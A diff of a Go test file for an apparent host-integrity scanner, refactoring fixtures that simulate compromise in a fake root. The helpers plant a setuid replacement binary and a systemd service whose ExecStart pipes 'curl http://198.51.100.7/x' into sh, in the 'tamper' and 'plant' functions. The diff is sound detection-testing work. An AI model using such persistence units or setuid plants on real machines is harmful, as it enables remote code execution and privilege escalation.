@@ -10,6 +10,7 @@ import (
 	"slices"
 	"strings"
 	"testing"
+	"time"
 
 	"picket/scanner"
 	"picket/scanner/facts"
@@ -61,23 +62,31 @@ func (c *changing) status() {
 	replace(c.t, c.root, "/var/lib/dpkg/status", b.String())
 }
 
+// tamper puts somebody else's program, set-user-ID, in the place of a package's.
+func (c *changing) tamper(name string) {
+	replace(c.t, c.root, "/usr/bin/"+name, "\x7fELF planted")
+	if err := os.Chmod(c.root+"/usr/bin/"+name, 0o4755); err != nil {
+		c.t.Fatal(err)
+	}
+}
+
+func (c *changing) plant(unit string) {
+	replace(c.t, c.root, "/etc/systemd/system/"+unit+".service", "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.7/x | sh'\n[Install]\nWantedBy=multi-user.target\n")
+}
+
 func (c *changing) change() {
 	name := fmt.Sprintf("package-%d", c.random.IntN(12))
-	unit := "/etc/systemd/system/" + name + ".service"
 	switch c.random.IntN(7) {
 	case 0, 1, 2:
 		c.install(name, c.random.IntN(4))
 	case 3:
 		c.remove(name)
-	case 4: // somebody else's program in the place of the package's, for everybody with root's rights
-		replace(c.t, c.root, "/usr/bin/"+name, "\x7fELF planted")
-		if err := os.Chmod(c.root+"/usr/bin/"+name, 0o4755); err != nil {
-			c.t.Fatal(err)
-		}
+	case 4:
+		c.tamper(name)
 	case 5:
-		replace(c.t, c.root, unit, "[Service]\nExecStart=/bin/sh -c 'curl -s http://198.51.100.7/x | sh'\n[Install]\nWantedBy=multi-user.target\n")
+		c.plant(name)
 	case 6:
-		c.take(unit)
+		c.take("/etc/systemd/system/" + name + ".service")
 	}
 	c.status()
 }
@@ -97,6 +106,8 @@ func TestLooksAgreeWithTheWhole(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
+	now := time.Now()
+	d.judging.now = func() time.Time { return now } // ages are the same in both
 	d.arrive()
 	defer d.leave(nil)
 	crit := d.set.Load().criteria
@@ -111,6 +122,9 @@ func TestLooksAgreeWithTheWhole(t *testing.T) {
 	closeDevice(dev)
 	tables := plan.withDependents(append(plan.touched(plan.byReal["/etc/systemd/system"], "x.service"), "packages"))
 	rules := map[string]bool{}
+	c.tamper("package-1")
+	c.tamper("nobodys")
+	c.plant("package-1")
 	for round := range 6 {
 		for range 1 + c.random.IntN(4) {
 			c.change()
